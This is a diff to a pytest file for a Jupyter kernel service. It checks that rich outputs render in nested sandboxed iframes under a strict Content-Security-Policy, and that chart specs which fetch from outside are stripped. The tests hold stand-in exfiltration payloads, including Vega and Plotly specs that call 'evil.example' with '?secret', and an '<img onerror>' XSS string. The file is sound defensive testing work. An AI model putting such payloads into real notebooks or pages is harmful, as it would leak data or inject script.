@@ -1,4 +1,5 @@
 """Jupyter's kernels at /jupyter: REST, and messages on a WebSocket in both of their forms."""
+import base64
 import html.parser
 import json
 import re
@@ -114,8 +115,8 @@ def test_an_exception_is_said_once(client):
 
 def test_displays_have_their_forms(client):
     said = client.run("from IPython.display import HTML, display\ndisplay(HTML('<b>shown</b>'))\nprint('then')\nHTML('<i>value</i>')")
-    assert "<b>shown</b>" in of(said, "display_data")[0]["data"]["text/html"]
-    assert "<i>value</i>" in of(said, "execute_result")[0]["data"]["text/html"]
+    assert page_of(of(said, "display_data")[0]["data"]["text/html"]) == "<b>shown</b>"
+    assert page_of(of(said, "execute_result")[0]["data"]["text/html"]) == "<i>value</i>"
 
 
 class Frame(html.parser.HTMLParser):
@@ -135,9 +136,79 @@ def test_a_notebook_runs_nothing_of_a_program(client):
     code = f"from IPython.display import display\ndisplay({{'text/html': {page!r}, 'application/javascript': 'z()', 'text/markdown': '<script>', 'text/plain': 'p'}}, raw=True)"
     (shown,) = of(client.run(code), "display_data")
     assert set(shown["data"]) == {"text/html", "text/plain"}
-    ((tag, attributes),) = Frame(shown["data"]["text/html"]).found
-    assert tag == "iframe" and attributes["sandbox"] == "allow-scripts" and set(attributes) == {"sandbox", "style", "srcdoc"}
-    assert attributes["srcdoc"].startswith("<meta http-equiv=Content-Security-Policy content=\"default-src 'none';") and attributes["srcdoc"].endswith(page)
+    assert page_of(shown["data"]["text/html"]).endswith(page)
+
+
+POLICY = "default-src 'none'; img-src data:; font-src data:; style-src 'unsafe-inline'; script-src 'unsafe-inline'"
+
+
+def page_of(text):
+    """The page of a program, in a frame of a frame: only the outer one can say that the inner one goes nowhere."""
+    ((tag, outer),) = Frame(text).found
+    assert tag == "iframe" and outer["sandbox"] == "allow-scripts" and set(outer) == {"sandbox", "style", "srcdoc"}
+    (meta, _, (tag, inner)) = Frame(outer["srcdoc"]).found
+    assert meta == ("meta", {"http-equiv": "Content-Security-Policy", "content": f"{POLICY}; frame-src data:"})
+    assert tag == "iframe" and inner["sandbox"] == "allow-scripts" and set(inner) == {"sandbox", "style", "src"}
+    kind, _, data = inner["src"].partition(",")
+    assert kind == "data:text/html;charset=utf-8;base64"
+    page = base64.b64decode(data, validate=True).decode()
+    head = f'<meta http-equiv=Content-Security-Policy content="{POLICY}">'
+    assert page.startswith(head)
+    return page[len(head) :]
+
+
+def shown(client, forms):
+    code = f"from IPython.display import display\ndisplay({forms!r}, raw=True)"
+    (said,) = of(client.run(code), "display_data")
+    return said["data"]
+
+
+def test_a_drawing_is_a_picture(client):
+    """An editor puts it into its page, with its scripts."""
+    drawing = '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'
+    data = shown(client, {"image/svg+xml": drawing, "text/plain": "p"})
+    assert set(data) == {"text/html", "text/plain"}
+    ((tag, attributes),) = Frame(page_of(data["text/html"])).found
+    assert tag == "img" and set(attributes) == {"style", "src"}
+    assert attributes["src"] == "data:image/svg+xml;base64," + base64.b64encode(drawing.encode()).decode()
+    assert page_of(shown(client, {"image/svg+xml": drawing, "text/html": "<b>"})["text/html"]) == "<b>"
+
+
+VEGA, PLOTLY = "application/vnd.vegalite.v5+json", "application/vnd.plotly.v1+json"
+
+
+@pytest.mark.parametrize(
+    "mime,chart",
+    [
+        (VEGA, {"data": {"url": "https://evil.example/?secret"}, "mark": "bar"}),
+        (VEGA, {"data": {"values": [{"u": "https://evil.example"}]}, "mark": "image", "encoding": {"url": {"field": "u"}}}),
+        (VEGA, {"mark": "bar", "usermeta": {"embedOptions": {"patch": "https://evil.example"}}}),
+        (VEGA, "https://evil.example/spec.json"),
+        ("application/vnd.vega.v5+json", {"data": [{"name": "d", "URL": {"signal": "'//evil.example/' + x"}}]}),
+        (PLOTLY, {"data": [], "layout": {"images": [{"source": "https://evil.example/?secret"}]}}),
+        (PLOTLY, {"data": [], "layout": {"mapbox": {"style": "https://evil.example/style.json"}}}),
+        (PLOTLY, {"data": [], "layout": {}, "config": {"topojsonURL": "https://evil.example/"}}),
+        (PLOTLY, {"data": [], "config": {"plotlyServerURL": "https://evil.example"}}),
+        ("application/geo+json", "https://evil.example"),
+    ],
+)
+def test_a_chart_that_loads_something_is_left_out(client, mime, chart):
+    assert shown(client, {mime: chart, "text/plain": "p"}) == {"text/plain": "p"}
+
+
+def test_a_chart_with_its_data_is_shown(client):
+    spec = {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "data": {"name": "d"}, "datasets": {"d": [{"a": "https://x"}]}, "mark": {"type": "bar"},
+            "encoding": {"x": {"field": "a", "type": "nominal"}}}  # fmt: skip
+    assert shown(client, {VEGA: spec, "text/plain": "p"})[VEGA] == spec
+    figure = {"data": [{"x": [1], "y": [2], "type": "scatter"}], "layout": {"title": {"text": "t"}, "images": []}, "config": {"plotlyServerURL": "https://plot.ly"}}
+    assert shown(client, {PLOTLY: figure, "text/plain": "p"})[PLOTLY] == figure
+
+
+def test_an_editor_finds_no_element_in_a_report(client):
+    (error,) = of(client.run("raise ValueError('<img src=x onerror=y()> <A href=\"z\">a</A> <!-- 1 < 2 <style>')"), "error")
+    report = "\n".join(error["traceback"])
+    assert "<\x1b[0mimg src=x onerror=y()> <\x1b[0mA href=\"z\">a<\x1b[0m/A> <\x1b[0m!-- 1 < 2 <\x1b[0mstyle>" in report, report
+    assert "in <module>" in report and error["evalue"].startswith("<img src")
 
 
 def test_output_is_masked(client):
